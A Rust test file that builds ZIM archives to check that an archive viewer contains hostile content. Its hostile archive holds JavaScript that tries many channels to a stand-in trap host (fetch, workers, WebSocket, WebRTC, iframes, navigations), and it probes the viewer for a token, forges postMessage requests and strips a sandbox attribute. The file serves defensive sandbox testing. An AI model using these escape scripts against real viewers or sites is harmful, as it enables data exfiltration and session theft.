//! Test-built archives for archive containment (issue 13): a hostile one
//! that tries every way out it can script, and an app that needs its
//! scripts (fetch of its own JSON, inline scripts, eval, workers, a module,
//! localStorage, hash routing). "Outside" is `*.trap.test` (mapped to
//! 127.0.0.1 by the browser's resolver rules) and 127.0.0.1 itself, both on
//! the trap's port.

use super::zim::ZimWriter;
use std::path::Path;

/// The pages of the hostile archive that each try one kind of navigation;
/// `sub` tries everything that does not navigate.
pub const NAV_PAGES: &[&str] = &[
    "nav-location",
    "nav-meta",
    "nav-link",
    "nav-form",
    "nav-download",
    "nav-top",
    "nav-scheme",
];

/// The script of every hostile page: `B` and `L` are the two ways to the
/// trap; `t(name, f)` runs one attempt and never stops the page; `done()`
/// sets the title, which the helper passes to the viewer.
fn prelude(trap: u16) -> String {
    format!(
        r#"var B = 'http://x.trap.test:{trap}', L = 'http://127.0.0.1:{trap}', R = [];
function t(n, f) {{ try {{ var p = f(); if (p && p.catch) p.catch(function () {{}}); R.push(n); }} catch (e) {{ R.push(n + '!' + e.name); }} }}
function uiOrigin() {{ try {{ if (location.ancestorOrigins && location.ancestorOrigins.length) return location.ancestorOrigins[0]; }} catch (e) {{}} return null; }}
function done(n) {{ document.title = n + '-done'; }}
"#
    )
}

const SUB: &str = r#"
t('tell-parent', function () { parent.postMessage({ds: 'x', ran: 'hostile-ran'}, '*'); });
[B, L].forEach(function (O) {
  t('fetch', function () { return fetch(O + '/fetch'); });
  t('fetch-nocors', function () { return fetch(O + '/nc', {mode: 'no-cors'}); });
  t('fetch-keepalive', function () { return fetch(O + '/ka', {method: 'POST', body: 'x', keepalive: true}); });
  t('xhr', function () { var x = new XMLHttpRequest(); x.open('GET', O + '/xhr'); x.send(); });
  t('xhr-sync', function () { var x = new XMLHttpRequest(); x.open('GET', O + '/xhrs', false); x.send(); });
  t('ws', function () { new WebSocket(O.replace('http', 'ws') + '/ws'); });
  t('es', function () { new EventSource(O + '/es'); });
  t('beacon', function () { navigator.sendBeacon(O + '/beacon', 'x'); });
  t('fetchLater', function () { fetchLater(O + '/later'); });
  t('img', function () { new Image().src = O + '/img.png'; });
  t('srcset', function () { var i = document.createElement('img'); i.srcset = O + '/1x.png 1x'; document.body.appendChild(i); });
  t('css', function () { var s = document.createElement('style'); s.textContent = '@import url("' + O + '/imp.css"); @font-face { font-family: X; src: url(' + O + '/f.woff); } body { font-family: X; background: url(' + O + '/bg.png); } h1 { background-image: image-set("' + O + '/is.png" 1x); }'; document.head.appendChild(s); });
  t('inline-style', function () { document.body.style.backgroundImage = 'url(' + O + '/inl.png)'; });
  t('video', function () { var v = document.createElement('video'); v.poster = O + '/p.jpg'; v.src = O + '/v.mp4'; var tr = document.createElement('track'); tr.src = O + '/t.vtt'; tr.default = true; v.appendChild(tr); document.body.appendChild(v); v.load(); });
  t('audio', function () { var a = new Audio(O + '/a.mp3'); a.load(); });
  t('object', function () { var o = document.createElement('object'); o.data = O + '/o.swf'; document.body.appendChild(o); });
  t('embed', function () { var e = document.createElement('embed'); e.src = O + '/e.swf'; document.body.appendChild(e); });
  t('svg', function () { var s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); var i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', O + '/svg.png'); s.appendChild(i); var u = document.createElementNS('http://www.w3.org/2000/svg', 'use'); u.setAttribute('href', O + '/u.svg#a'); s.appendChild(u); document.body.appendChild(s); });
  t('script', function () { var s = document.createElement('script'); s.src = O + '/s.js'; document.head.appendChild(s); });
  t('import', function () { return import(O + '/m.js'); });
  t('worker', function () { new Worker('worker-evil.js?o=' + encodeURIComponent(O)); });
  t('blob-worker', function () { new Worker(URL.createObjectURL(new Blob(["fetch('" + O + "/bw').catch(function(){}); importScripts('" + O + "/bwi.js');"], {type: 'text/javascript'}))); });
  t('data-worker', function () { new Worker('data:text/javascript,fetch("' + O + '/dw")'); });
  t('shared-worker', function () { new SharedWorker('worker-evil.js?o=' + encodeURIComponent(O)); });
  t('paint-worklet', function () { return CSS.paintWorklet.addModule(O + '/pw.js'); });
  t('audio-worklet', function () { return new AudioContext().audioWorklet.addModule(O + '/aw.js'); });
  ['stylesheet', 'icon', 'manifest', 'preload', 'modulepreload', 'prefetch', 'prerender', 'preconnect', 'dns-prefetch'].forEach(function (rel) {
    t('link-' + rel, function () { var l = document.createElement('link'); l.rel = rel; if (rel === 'preload') l.as = 'image'; l.href = O + '/' + rel; document.head.appendChild(l); });
  });
  t('speculation', function () { var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [O + '/spec']}], prerender: [{source: 'list', urls: [O + '/spec2']}]}); document.head.appendChild(s); });
  t('iframe', function () { var f = document.createElement('iframe'); f.src = O + '/frame'; document.body.appendChild(f); });
  t('srcdoc', function () { var f = document.createElement('iframe'); f.srcdoc = '<script>fetch("' + O + '/srcdoc").catch(function(){})<\/script><img src="' + O + '/srcdoc.png">'; document.body.appendChild(f); });
  t('about-blank', function () { var f = document.createElement('iframe'); document.body.appendChild(f); f.contentWindow.fetch(O + '/ab').catch(function () {}); var i = f.contentDocument.createElement('img'); i.src = O + '/ab.png'; f.contentDocument.body.appendChild(i); });
  t('data-frame', function () { var f = document.createElement('iframe'); f.src = 'data:text/html,<img src="' + O + '/df.png"><script>fetch("' + O + '/df")<\/script>'; document.body.appendChild(f); });
  t('blob-frame', function () { var f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="' + O + '/bf.png"><script>fetch("' + O + '/bf").catch(function(){})<\/script>'], {type: 'text/html'})); document.body.appendChild(f); });
  t('ping', function () { var a = document.createElement('a'); a.href = '#pinged'; a.ping = O + '/ping'; document.body.appendChild(a); a.click(); });
  t('webtransport', function () { new WebTransport(O.replace('http', 'https') + '/wt'); });
});
t('base', function () { var b = document.createElement('base'); b.href = B + '/'; document.head.appendChild(b); var i = new Image(); i.src = 'based.png'; document.body.appendChild(i); });
t('meta-csp-report', function () { var m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri " + B + "/report"; document.head.appendChild(m); new Image().src = 'x.png'; });
t('top', function () { top.location = B + '/top'; });
t('parent', function () { parent.location = B + '/parent'; });
t('parent-doc', function () { return parent.document.body.innerHTML; });
t('frame-element', function () { if (window.frameElement) { window.frameElement.removeAttribute('sandbox'); } });
t('domain', function () { document.domain = '127.0.0.1'; });
t('open', function () { var w = window.open(B + '/open'); if (w) R.push('OPENED'); });
t('opener', function () { if (window.opener) window.opener.location = B + '/opener'; });
t('sw', function () { return navigator.serviceWorker.register('sw.js'); });
var ui = uiOrigin();
if (ui) {
  t('ui-fetch', function () { return fetch(ui + '/').then(function (r) { return r.text(); }).then(function (x) { if (x.indexOf('token=') >= 0) R.push('TOKEN'); }); });
  t('ui-close', function () { return fetch(ui + '/close?token=guess', {method: 'POST', mode: 'no-cors'}); });
  t('ui-frame', function () { var f = document.createElement('iframe'); f.src = ui + '/'; document.body.appendChild(f); });
  t('ui-api', function () { var s = document.createElement('script'); s.src = ui + '/api/catalog'; document.head.appendChild(s); });
}
t('forge-path', function () { parent.postMessage({ds: 'at', path: '/content/hostile/../../close', title: 'FORGED'}, '*'); });
t('forge-url', function () { parent.postMessage({ds: 'at', path: B + '/forged', title: 'FORGED'}, '*'); });
t('forge-open', function () { parent.postMessage({ds: 'open', path: B + '/open'}, '*'); });
setTimeout(function () { done('sub'); }, 300);
"#;

/// Each navigation attempt on a page of its own: one navigation cancels
/// another, so together they would hide each other.
fn nav_script(page: &str) -> &'static str {
    match page {
        "nav-location" => "done('nav-location'); setTimeout(function () { location.href = B + '/nav-location'; }, 50);",
        "nav-meta" => "done('nav-meta'); var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=' + B + '/nav-meta'; document.head.appendChild(m);",
        "nav-link" => "done('nav-link'); var a = document.createElement('a'); a.href = B + '/nav-link'; document.body.appendChild(a); a.click();",
        "nav-form" => "done('nav-form'); var f = document.createElement('form'); f.method = 'POST'; f.action = B + '/nav-form'; document.body.appendChild(f); f.submit();",
        "nav-download" => "done('nav-download'); var a = document.createElement('a'); a.href = B + '/nav-download.bin'; a.download = 'x.bin'; document.body.appendChild(a); a.click();",
        "nav-top" => "done('nav-top'); var a = document.createElement('a'); a.href = B + '/nav-top'; a.target = '_top'; document.body.appendChild(a); a.click(); var f = document.createElement('form'); f.action = B + '/nav-blank'; f.target = '_blank'; document.body.appendChild(f); f.submit(); t('open', function () { window.open(L + '/nav-open'); });",
        "nav-scheme" => "done('nav-scheme'); ['mailto:someone@x.trap.test', 'tel:+100', 'search-ms:query=x', 'ms-settings:privacy', 'driveshelf-x:hello', 'file://x.trap.test/share/x.png'].forEach(function (u) { var a = document.createElement('a'); a.href = u; document.body.appendChild(a); t(u, function () { a.click(); }); });",
        _ => "",
    }
}

fn html(title: &str, body_script: &str, trap: u16) -> String {
    // Navigations wait until the helper has told the viewer the page's title
    // (on load): one that is blocked leaves an error page in the frame.
    let body_script = if title.starts_with("nav-") {
        format!("window.addEventListener('load', function () {{ setTimeout(function () {{ {body_script} }}, 300); }}); document.title = '{title}-done';")
    } else {
        body_script.to_string()
    };
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta http-equiv=\"x-dns-prefetch-control\" content=\"on\"><title>{title}</title></head><body><h1>{title}</h1><p>A page that tries to leave.</p><script>{}{body_script}</script></body></html>",
        prelude(trap)
    )
}

/// The WebRTC page: STUN and TURN to a name and to an address, with and
/// without servers, also through an about:blank child's constructor. Kept
/// apart: in Chromium with `Connection-Allowlist` WebRTC kills the page's
/// process (fails closed), taking the tab with it.
const RTC: &str = r#"
function rtc(W, servers) {
  var pc = new W.RTCPeerConnection(servers);
  pc.createDataChannel('x');
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
}
done('rtc');
t('rtc-name', function () { rtc(window, {iceServers: [{urls: 'stun:rtc.trap.test:' + B.split(':')[2]}]}); });
t('rtc-ip', function () { rtc(window, {iceServers: [{urls: 'stun:127.0.0.1:' + B.split(':')[2]}, {urls: 'turn:127.0.0.1:' + B.split(':')[2] + '?transport=udp', username: 'u', credential: 'p'}]}); });
t('rtc-none', function () { rtc(window, {}); });
t('rtc-child', function () { var f = document.createElement('iframe'); document.body.appendChild(f); rtc(f.contentWindow, {iceServers: [{urls: 'stun:127.0.0.1:' + B.split(':')[2]}]}); });
"#;

const WORKER_EVIL: &str = r#"
var O = decodeURIComponent((self.location.search.split('o=')[1] || ''));
try { fetch(O + '/wfetch').catch(function () {}); } catch (e) {}
try { importScripts(O + '/wimport.js'); } catch (e) {}
try { new WebSocket(O.replace('http', 'ws') + '/wws'); } catch (e) {}
onconnect = function () {};
"#;

pub fn write_hostile(file: &Path, trap: u16) {
    let mut z = ZimWriter::new();
    z.add("sub", "sub", "text/html", html("sub", SUB, trap));
    for p in NAV_PAGES {
        z.add(p, p, "text/html", html(p, nav_script(p), trap));
    }
    z.add("rtc", "rtc", "text/html", html("rtc", RTC, trap));
    z.add("worker-evil.js", "", "application/javascript", WORKER_EVIL);
    z.add(
        "sw.js",
        "",
        "application/javascript",
        "self.addEventListener('fetch', function (e) { e.respondWith(fetch('http://sw.trap.test/')); });",
    );
    z.main_page("sub");
    z.metadata("Title", "Hostile");
    z.metadata("Language", "eng");
    z.metadata("Name", "hostile");
    z.write(file).expect("write hostile ZIM");
}

const APP_INDEX: &str = r#"<!DOCTYPE html><html><head><meta charset="utf-8"><title>loading</title>
<script>window.__inline = 1;</script>
<script type="module">import { v } from './mod.js'; window.__module = v;</script>
<script src="app.js" defer></script>
</head><body><h1>App</h1><div id="out"></div><video id="v" src="clip.webm"></video>
<p><a id="next" href="second">second</a></p></body></html>"#;

const APP_JS: &str = r#"(function () {
  var res = {}, route = location.hash.slice(1), pending = 3;
  res.inline = window.__inline === 1;
  try { res.eval = eval('1 + 1') === 2 && new Function('return 3')() === 3; } catch (e) { res.eval = false; }
  try { localStorage.setItem('k', 'v'); res.storage = localStorage.getItem('k') === 'v'; } catch (e) { res.storage = false; }
  res.fullscreen = document.fullscreenEnabled === true;
  function finish() {
    if (pending > 0) return;
    res.module = window.__module === 'm';
    document.title = 'app ' + Object.keys(res).sort().map(function (k) { return k + '=' + (res[k] ? 'ok' : 'no'); }).join(' ') + ' route=' + route;
  }
  function one() { pending--; finish(); }
  fetch('data.json').then(function (r) { return r.json(); }).then(function (j) { res.fetch = j.answer === 42; }, function () { res.fetch = false; }).then(one);
  try {
    var w = new Worker('worker.js');
    w.onmessage = function (e) { res.worker = e.data === 'pong'; one(); };
    w.onerror = function () { res.worker = false; one(); };
    w.postMessage('ping');
  } catch (e) { res.worker = false; one(); }
  try {
    var b = new Worker(URL.createObjectURL(new Blob(['postMessage(6 * 7)'], {type: 'text/javascript'})));
    b.onmessage = function (e) { res.blobworker = e.data === 42; one(); };
    b.onerror = function () { res.blobworker = false; one(); };
  } catch (e) { res.blobworker = false; one(); }
  window.addEventListener('hashchange', function () { route = location.hash.slice(1); finish(); });
})();
"#;

const APP_WORKER: &str = "onmessage = function () { fetch('data.json').then(function (r) { return r.json(); }).then(function (j) { postMessage(j.answer === 42 ? 'pong' : 'bad'); }, function () { postMessage('bad'); }); };";

pub fn write_app(file: &Path) {
    let mut z = ZimWriter::new();
    z.add("index", "App", "text/html", APP_INDEX);
    z.add("app.js", "", "application/javascript", APP_JS);
    z.add(
        "mod.js",
        "",
        "application/javascript",
        "export var v = 'm';",
    );
    z.add("worker.js", "", "application/javascript", APP_WORKER);
    z.add("data.json", "", "application/json", "{\"answer\": 42}");
    z.add(
        "second",
        "Second",
        "text/html",
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Second page</title></head><body><h1>Second</h1><p>The app's second page, reached by a link.</p></body></html>",
    );
    z.add(
        "hop",
        "Hop",
        "text/html",
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>hop</title><script>setTimeout(function () { location.replace('second#from-hop'); }, 100);</script></head><body><p>hop</p></body></html>",
    );
    z.add(
        "blank-link",
        "Blank link",
        "text/html",
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>blank-link</title></head><body><p><a id=\"b\" href=\"second\" target=\"_blank\">second, in a new window</a></p><script>window.addEventListener('load', function () { setTimeout(function () { document.getElementById('b').click(); }, 200); });</script></body></html>",
    );
    z.main_page("index");
    z.metadata("Title", "Script app");
    z.metadata("Language", "eng");
    z.metadata("Name", "app");
    z.metadata("Scraper", "warc2zim 2.1.0");
    z.write(file).expect("write app ZIM");
}

/// A trusted archive that preconnects to the trap: without
/// `Connection-Allowlist` nothing stops it (research §2).
pub fn write_leaky(file: &Path, trap: u16) {
    let mut z = ZimWriter::new();
    z.add(
        "index",
        "leaky",
        "text/html",
        format!("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>leaky</title></head><body><p>A preconnect.</p><script>var l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://127.0.0.1:{trap}/'; document.head.appendChild(l); document.title = 'leaky-done';</script></body></html>"),
    );
    z.main_page("index");
    z.metadata("Title", "Leaky");
    z.metadata("Name", "leaky");
    z.write(file).expect("write leaky ZIM");
}

/// A stand-in for a Zimit/warc2zim crawl's replay script (written for the
/// test, not wombat): it rewrites the captured site's absolute URLs to the
/// archive's own paths, wraps a worker and a frame in `blob:` URLs, as the
/// real one does.
const REPLAY_JS: &str = r#"(function () {
  var prefix = location.pathname.split('/www.example.test/')[0] + '/';
  function local(u) { return String(u).replace(/^https?:\/\//, prefix); }
  var realFetch = window.fetch;
  window.fetch = function (u, o) { return realFetch.call(window, local(u), o); };
  window.__replay = { local: local };
})();
"#;

const CRAWL_PAGE: &str = r#"<!DOCTYPE html><html><head><meta charset="utf-8"><title>crawl loading</title>
<script src="../_zim_static/replay.js"></script></head>
<body><h1>A captured site</h1><div id="app"></div><script>
(function () {
  var res = {}, pending = 3;
  function one() { if (--pending > 0) return; document.title = 'crawl ' + Object.keys(res).sort().map(function (k) { return k + '=' + (res[k] ? 'ok' : 'no'); }).join(' '); }
  fetch('https://www.example.test/api/data.json').then(function (r) { return r.json(); }).then(function (j) { res.fetch = j.captured === true; }, function () { res.fetch = false; }).then(one);
  try {
    var w = new Worker(URL.createObjectURL(new Blob(["onmessage = function (e) { postMessage(e.data + 1); };"], {type: 'text/javascript'})));
    w.onmessage = function (e) { res.blobworker = e.data === 2; one(); };
    w.postMessage(1);
  } catch (e) { res.blobworker = false; one(); }
  addEventListener('message', function (e) { if (e.data === 'blob-frame') { res.blobframe = true; one(); } });
  var f = document.createElement('iframe');
  f.src = URL.createObjectURL(new Blob(['<script>parent.postMessage("blob-frame", "*")<\/script>'], {type: 'text/html'}));
  document.body.appendChild(f);
})();
</script></body></html>"#;

pub fn write_crawl(file: &Path) {
    let mut z = ZimWriter::new();
    z.add(
        "www.example.test/index.html",
        "Captured",
        "text/html",
        CRAWL_PAGE,
    );
    z.add(
        "www.example.test/api/data.json",
        "",
        "application/json",
        "{\"captured\": true}",
    );
    z.add(
        "_zim_static/replay.js",
        "",
        "application/javascript",
        REPLAY_JS,
    );
    z.main_page("www.example.test/index.html");
    z.metadata("Title", "A crawl");
    z.metadata("Name", "crawl");
    z.metadata("Scraper", "zimit 2.1; warc2zim 2.1");
    z.write(file).expect("write crawl ZIM");
}
